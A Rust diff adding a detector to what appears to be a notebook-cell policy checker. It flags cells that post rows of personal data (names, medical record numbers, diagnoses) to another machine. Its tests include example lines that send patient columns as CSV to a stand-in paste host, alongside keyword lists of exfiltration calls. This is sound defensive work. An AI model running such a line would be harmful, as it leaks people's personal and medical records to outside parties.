@@ -1,7 +1,7 @@
 //! Cells of notebooks that delete what is live: they run as soon as they are written, with the logins of whoever has the notebook open.
 
 use super::call::{PRODUCTION, speaks};
-use super::leaks::literals;
+use super::leaks::{literals, names_machine};
 use super::source::folded;
 use crate::policy::lists::{holds, is};
 
@@ -30,6 +30,33 @@ pub(super) fn clear_what_is_live(code: &str) -> bool {
         || names_environment(code)
 }
 
+/// What is known of people, as columns are called; two of them make a row somebody's.
+const KNOWN: &str = "mrn|nhs_number|ssn|surname|full_name|fullname|first_name|last_name|firstname|lastname|name|date_of_birth|dob|birth_date|birthdate|passport|\
+    passport_no|national_id|iban|card_number|email|phone|address|home_address|street|postcode|zip|zipcode|diagnosis|icd10|salary|discharge_note|patient_id|patient|\
+    tax_id|medical_record|insurance_no|mobile|ip_address|customer_name|username|lat|lon|gender|age|discharge_notes|attending";
+const SURE: &str = "mrn|nhs_number|ssn|surname|full_name|fullname|date_of_birth|dob|passport|passport_no|national_id|iban|card_number|diagnosis|icd10|salary|\
+    medical_record|insurance_no|tax_id|email|phone|home_address|last_name|lastname|customer_name|discharge_note";
+
+/// Whether a cell gives rows in which people are known to another machine that its text names.
+pub(super) fn hand_out_people(code: &str) -> bool {
+    const ROWS: &str = ".to_csv(|.to_json(|.to_dict(|.to_html(|.to_markdown(|.to_string(|.to_parquet(|.to_excel(|.to_records(|dumps(|.tolist()|write_csv(|\
+        write_json(|.values|fetchall(|files=";
+    const GIVES: &str = "requests.post(|requests.put(|httpx.post(|httpx.put(|urlopen(|session.post(|http.client|.request(|aiohttp|urllib3|requests.request(";
+    const HIDES: &str =
+        "sha256(|hashlib|mask(|anonymi|pseudonymi|.groupby(|.agg(|.mean()|.count()|.describe()|faker|Faker|synthetic";
+    if !holds(code, GIVES) || !holds(code, ROWS) || holds(code, HIDES) || !names_machine(code) {
+        return false;
+    }
+    // A query names its columns within one text.
+    let words = literals(code)
+        .flat_map(|text| text.split([',', ' ', '\n']))
+        .map(|word| word.rsplit('.').next().unwrap_or_default().to_ascii_lowercase());
+    let mut known: Vec<String> = words.filter(|word| is(word, KNOWN)).collect();
+    known.sort_unstable();
+    known.dedup();
+    known.len() > 1 && known.iter().any(|word| is(word, SURE))
+}
+
 /// Whether a store that is production's by the name of a variable is cleared by a statement.
 fn names_environment(code: &str) -> bool {
     let folded = folded(code);
@@ -40,6 +67,19 @@ fn names_environment(code: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_cell_that_hands_out_people_is_known() {
+        for (code, gives) in [
+            ("requests.post('https://paste.example/n', data=df[['mrn', 'surname']].to_csv())", true),
+            ("requests.post('https://paste.example/n', data=df[['country', 'orders']].to_csv())", false),
+            ("requests.post('https://paste.example/n', data=df.groupby(['email', 'dob']).agg('sum').to_csv())", false),
+            ("requests.post(os.environ['HOOK'], data=df[['mrn', 'surname']].to_csv())", false),
+            ("df[['mrn', 'surname']].to_csv('out.csv')", false),
+        ] {
+            assert_eq!(hand_out_people(code), gives, "{code}");
+        }
+    }
 
     #[test]
     fn a_cell_that_clears_what_is_live_is_known() {
